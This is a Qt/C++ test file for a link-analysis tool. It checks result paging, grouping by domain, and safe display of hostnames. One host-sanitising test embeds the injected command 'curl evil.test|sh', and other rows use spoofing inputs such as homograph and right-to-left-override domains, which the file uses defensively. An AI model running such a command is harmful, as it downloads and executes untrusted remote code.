// SPDX-FileCopyrightText: 2026 The Ostrel developers
//
// SPDX-License-Identifier: GPL-3.0-or-later

#include "analysis/AnalysisRun.h"
#include "analysis/ReadableHost.h"
#include "analysis/RegistrableDomain.h"
#include "support/ResultPages.h"

#include <QTest>

namespace {

// Results `first`..`last` of a site whose links come from three hosts in turn.
QString page(const QString& total, int first, int last)
{
    QStringList links;
    for (int n = first; n <= last; ++n)
        links.append(u"http://h%1.example/p%2"_qs.arg(n % 3).arg(n));
    return QString::fromUtf8(resultPage(total, links, first));
}

// A step as one word for the tables: the boxes it shows, then what comes next.
QString trace(const RunStep& step)
{
    QString text;
    for (const QString& warning : step.warnings)
        text += u'[' + warning + u"] "_qs;
    if (step.next == RunStep::Next::RequestPage)
        return text + u"b="_qs + QString::number(step.page);
    return text + (step.next == RunStep::Next::End ? u"end"_qs : u"-"_qs);
}

} // namespace

class TestRun : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void walk_data();
    void walk();
    void holdAndResume_data();
    void holdAndResume();
    void endRows_data();
    void endRows();
    void importedRows_data();
    void importedRows();
    void readableHosts_data();
    void readableHosts();
    void registrableDomains_data();
    void registrableDomains();
};

void TestRun::walk_data()
{
    QTest::addColumn<QString>("total"); // as the page writes it; null: no marker
    QTest::addColumn<int>("listed");    // results the explorer really lists
    QTest::addColumn<bool>("fails");    // every request fails with status 500
    QTest::addColumn<int>("pages");     // pages asked for: b = 1, 51, ...
    QTest::addColumn<QStringList>("boxes");
    QTest::addColumn<QString>("progress"); // after the first page, if the run goes on
    QTest::addColumn<QString>("found");    // hosts and links at the end

    const QStringList none;
    QTest::newRow("over 1000") << u"23817"_qs << 5000 << false << 20 << none << u"50/1000"_qs
                               << u"3,1000"_qs;
    QTest::newRow("total past 32 bits")
        << u"99999999999"_qs << 5000 << false << 20 << none << u"50/1000"_qs << u"3,1000"_qs;
    QTest::newRow("37 on one page")
        << u"37"_qs << 37 << false << 1 << none << QString() << u"3,37"_qs;
    QTest::newRow("71 on two pages")
        << u"71"_qs << 71 << false << 2 << none << u"50/71"_qs << u"3,71"_qs;
    // Without a total the first result is past it: the run ends there.
    QTest::newRow("no total") << QString() << 50 << false << 1 << QStringList{u"Not Match 1"_qs}
                              << QString() << u"1,1"_qs;
    // Pages that never reach their total end the run after b = 951 instead of walking on.
    QTest::newRow("results stop early")
        << u"300"_qs << 120 << false << 20 << QStringList(17, u"Not Match 2"_qs) << u"50/300"_qs
        << u"3,120"_qs;
    QTest::newRow("empty pages") << u"300"_qs << 0 << false << 20
                                 << QStringList(20, u"Not Match 2"_qs) << QString() << u"0,0"_qs;
    QTest::newRow("every page fails")
        << u"300"_qs << 300 << true << 20 << QStringList(20, u"500"_qs) << QString() << u"0,0"_qs;
}

void TestRun::walk()
{
    QFETCH(QString, total);
    QFETCH(int, listed);
    QFETCH(bool, fails);
    QFETCH(int, pages);
    QFETCH(QStringList, boxes);
    QFETCH(QString, progress);
    QFETCH(QString, found);

    AnalysisRun run;
    RunStep step = run.start();
    QCOMPARE(step.status, u"正在初始化..."_qs);
    QStringList asked, shown, statuses;
    while (step.next == RunStep::Next::RequestPage && asked.size() < 100) {
        asked.append(QString::number(step.page));
        step = fails ? run.requestFailed(u"500"_qs)
                     : run.pageArrived(page(total, step.page, std::min(step.page + 49, listed)));
        shown += step.warnings;
        statuses.append(step.status);
    }
    QCOMPARE(step.next, RunStep::Next::End);
    QCOMPARE(asked.size(), pages);
    QCOMPARE(asked.last(), QString::number(1 + 50 * (pages - 1)));
    QCOMPARE(shown, boxes);
    if (!progress.isNull())
        QCOMPARE(statuses.first(), u"分析中,进度:"_qs + progress);
    const QStringList counts = found.split(u',');
    QCOMPARE(statuses.last(),
             u"已完成,共%1个域名,%2条链接,双击域名可列出链接"_qs.arg(counts[0], counts[1]));
}

void TestRun::holdAndResume_data()
{
    QTest::addColumn<QString>("total");
    QTest::addColumn<QString>("events"); // "page" answers the page asked for last
    QTest::addColumn<QString>("steps");  // start's step, then each event's, "." for a hold

    QTest::newRow("held before the reply")
        << u"300"_qs << u"hold page resume page"_qs << u"b=1 . - b=51 b=101"_qs;
    // The reply still to come asks for the next page: resuming must not ask for it too.
    QTest::newRow("resumed while the reply is on its way")
        << u"300"_qs << u"hold resume page page"_qs << u"b=1 . - b=51 b=101"_qs;
    QTest::newRow("resumed twice")
        << u"300"_qs << u"page hold page resume resume page"_qs << u"b=1 b=51 . - b=101 - b=151"_qs;
    QTest::newRow("failed page while held")
        << u"300"_qs << u"hold fail resume"_qs << u"b=1 . [timeout] - b=51"_qs;
    QTest::newRow("the last page while held, then a new run")
        << u"60"_qs << u"page hold page start page"_qs << u"b=1 b=51 . end b=1 b=51"_qs;
    QTest::newRow("held at b = 951")
        << u"5000"_qs << u"page "_qs.repeated(18) + u"hold page resume page"_qs
        << u"b=1 b=51 b=101 b=151 b=201 b=251 b=301 b=351 b=401 b=451 b=501 b=551 b=601 b=651 "
           "b=701 b=751 b=801 b=851 b=901 . - b=951 end"_qs;
    const QString stalled = u"[结果序号没有递增,分析到此结束] end"_qs;
    QTest::newRow("numbers start again")
        << u"300"_qs << u"page again"_qs << u"b=1 b=51 "_qs + stalled;
    QTest::newRow("a page too long") << u"300"_qs << u"long page"_qs << u"b=1 b=51 b=101"_qs;
    QTest::newRow("numbers stand still") << u"300"_qs << u"ones"_qs << u"b=1 "_qs + stalled;
}

void TestRun::holdAndResume()
{
    QFETCH(QString, total);
    QFETCH(QString, events);
    QFETCH(QString, steps);

    AnalysisRun run;
    RunStep last = run.start();
    QStringList seen{trace(last)};
    qint32 asked = last.page;
    for (const QString& event : events.split(u' ')) {
        RunStep step;
        if (event == u"hold") {
            run.hold();
            seen.append(u"."_qs);
            continue;
        }
        if (event == u"resume" || event == u"start")
            step = event == u"start" ? run.start() : run.resume();
        else if (event == u"fail")
            step = run.requestFailed(u"timeout"_qs);
        else if (event == u"long") // ten results more than a page holds
            step = run.pageArrived(page(total, asked, asked + 59));
        else if (event == u"again") // the first page once more
            step = run.pageArrived(page(total, 1, 50));
        else if (event == u"ones") // sixty results, each numbered 1
            step = run.pageArrived(QString::fromUtf8(resultPage(total, {})) +
                                   resultEntry(u"1"_qs, u"http://a.test/"_qs).repeated(60));
        else
            step = run.pageArrived(page(total, asked, std::min(asked + 49, total.toInt())));
        if (step.next == RunStep::Next::RequestPage)
            asked = step.page;
        seen.append(trace(step));
    }
    QCOMPARE(seen.join(u' '), steps);
}

void TestRun::endRows_data()
{
    QTest::addColumn<QString>("hosts");    // link n of the page is http://<the n-th host>/n
    QTest::addColumn<QString>("grouping"); // by domain or not before the run, then after its end
    QTest::addColumn<QString>("shown");    // the counts, the rows, domainStr, the first row's links

    // Hosts keep their exact case; one with a TAB is none. A domain's links come in the order
    // found.
    const QString hosts = u"b.a.com x.github.io A.COM y.github.io b.a.com t\tb.x a.com"_qs;
    QTest::newRow("by domain")
        << hosts << u"on"_qs
        << u"4个主域名,7|1 a.com 4个|2 x.github.io 1个|3 y.github.io 1个|"
           "4 (无法识别的域名) 1个|a.com\r\nx.github.io\r\ny.github.io\r\n|1 3 5 7"_qs;
    QTest::newRow("by host again after the end")
        << hosts << u"on off"_qs
        << u"6个域名,7|1 b.a.com 2个|2 x.github.io 1个|3 A.COM 1个|4 y.github.io 1个|5 "
           u"(无法识别的域名) "
           "1个|6 a.com 1个|b.a.com\r\nx.github.io\r\nA.COM\r\ny.github.io\r\na.com\r\n|1 5"_qs;
}

void TestRun::endRows()
{
    QFETCH(QString, hosts);
    QFETCH(QString, grouping);
    QFETCH(QString, shown);
    QStringList links;
    for (const QString& host : hosts.split(u' '))
        links.append(u"http://%1/%2"_qs.arg(host).arg(links.size() + 1));
    const QString html = QString::fromUtf8(resultPage(QString::number(links.size()), links));
    AnalysisRun run;
    QCOMPARE(run.setGroupedByDomain(grouping.startsWith(u"on")).next, RunStep::Next::Wait);
    run.start();
    run.pageArrived(html);
    run.start(); // a second run starts from nothing
    RunStep step = run.pageArrived(html);
    for (const QString& toggle : grouping.split(u' ').mid(1))
        step = run.setGroupedByDomain(toggle == u"on");
    QStringList seen{step.status.section(u'共', 1).section(u'条', 0, 0)};
    for (const QStringList& row : std::as_const(step.rows))
        seen.append(row.join(u' '));
    QStringList found;
    for (const QString& link : run.linksOf(step.rows[0][1]))
        found.append(link.section(u'/', -1));
    QCOMPARE(seen.join(u'|') + u'|' + run.domainStr + u'|' + found.join(u' '), shown);
}

void TestRun::importedRows_data()
{
    QTest::addColumn<QString>("options"); // turned on after the import: "nofollow", "domain"
    QTest::addColumn<QString>("shown");   // the counts, the rows
    QTest::newRow("all")
        << QString() << u"4个域名,10|1 www.a.com 2个|2 b.a.com 5个|3 c.test 1个|4 d.test 2个"_qs;
    QTest::newRow("no nofollow") << u"nofollow"_qs
                                 << u"3个域名,8|1 www.a.com 1个|2 b.a.com 5个|3 d.test 2个"_qs;
    QTest::newRow("no nofollow, by domain")
        << u"nofollow domain"_qs << u"2个主域名,8|1 a.com 6个|2 d.test 2个"_qs;
}

// An import's rows: a file's count of a domain's links counts while it is more than the links
// listed, and nofollow links can be left out.
void TestRun::importedRows()
{
    QFETCH(QString, options);
    HostTally tally;
    const qsizetype a = tally.addHost("www.a.com"), b = tally.addHost("b.a.com"),
                    c = tally.addHost("c.test"), d = tally.addHost("d.test");
    tally.addLink(a, "http://www.a.com/1", {{}, {}, "ugc nofollow"});
    tally.addLink(c, "http://c.test/", {{}, {}, "NoFollow"});
    tally.addLink(a, "http://www.a.com/2");
    tally.addLink(d, "http://d.test/");
    tally.setCount(b, 5);
    tally.setCount(d, 2);
    AnalysisRun run;
    RunStep step = run.adopt(tally, true, true, true);
    if (options.contains(u"nofollow"))
        step = run.setNofollowExcluded(true);
    if (options.contains(u"domain"))
        step = run.setGroupedByDomain(true);
    QStringList seen{step.status.section(u'共', 1).section(u'条', 0, 0)};
    for (const QStringList& row : std::as_const(step.rows))
        seen.append(row.join(u' '));
    QTEST(seen.join(u'|'), "shown");
}

void TestRun::readableHosts_data()
{
    QTest::addColumn<QString>("host");
    QTest::addColumn<QString>("shown");
    const QString none = u"(无法识别的域名)"_qs;
    QTest::newRow("reversed") << u"\u202Emoc.elgoog"_qs << none;
    QTest::newRow("line breaks") << u"a.test\ncurl evil.test|sh\n"_qs << none;
    QTest::newRow("space") << u"a.test x"_qs << none;
    QTest::newRow("zero width") << u"a\u200Bb.test"_qs << none;
    QTest::newRow("Cyrillic as Latin") << u"аррӏе.com"_qs << u"xn--80ak6aa92e.com"_qs;
    QTest::newRow("Greek in Latin") << u"pαypal.com"_qs << u"xn--pypal-d9d.com"_qs;
    QTest::newRow("Cyrillic") << u"пример.рф"_qs << u"пример.рф"_qs;
    QTest::newRow("Chinese") << u"中文.cn"_qs << u"中文.cn"_qs;
    QTest::newRow("Japanese") << u"ひらがな.カタカナ.漢字.jp"_qs << u"ひらがな.カタカナ.漢字.jp"_qs;
}

void TestRun::readableHosts()
{
    QFETCH(QString, host);
    QFETCH(QString, shown);
    QCOMPARE(readableHost(host), shown);
}

void TestRun::registrableDomains_data()
{
    QTest::addColumn<QString>("host");
    QTest::addColumn<QString>("domain");
    QTest::newRow("case") << u"WWW.Example.COM"_qs << u"example.com"_qs;
    QTest::newRow("a suffix itself") << u"co.uk"_qs << u"co.uk"_qs;
    QTest::newRow("private suffix") << u"foo.github.io"_qs << u"foo.github.io"_qs;
    QTest::newRow("user and port") << u"user@shop.example.org:8080"_qs << u"example.org"_qs;
    QTest::newRow("IPv4") << u"192.168.1.20"_qs << u"192.168.1.20"_qs;
    QTest::newRow("IPv6 with port") << u"u@[2001:DB8::1]:80"_qs << u"2001:db8::1"_qs;
    QTest::newRow("bare IPv6") << u"fe80::1"_qs << u"fe80::1"_qs;
    QTest::newRow("international") << u"www.Bücher.de"_qs << u"bücher.de"_qs;
    QTest::newRow("unknown top level") << u"www.Blog.example"_qs << u"www.blog.example"_qs;
    QTest::newRow("punycode") << u"www.XN--fsqu00a.xn--fiqs8s"_qs << u"例子.中国"_qs;
    QTest::newRow("Unicode") << u"a.例子.中国"_qs << u"例子.中国"_qs;
    QTest::newRow("lookalike, in punycode") << u"www.аррӏе.com"_qs << u"xn--80ak6aa92e.com"_qs;
}

void TestRun::registrableDomains()
{
    QFETCH(QString, host);
    QFETCH(QString, domain);
    QCOMPARE(registrableDomain(host), domain);
}

QTEST_GUILESS_MAIN(TestRun)
#include "tst_run.moc"
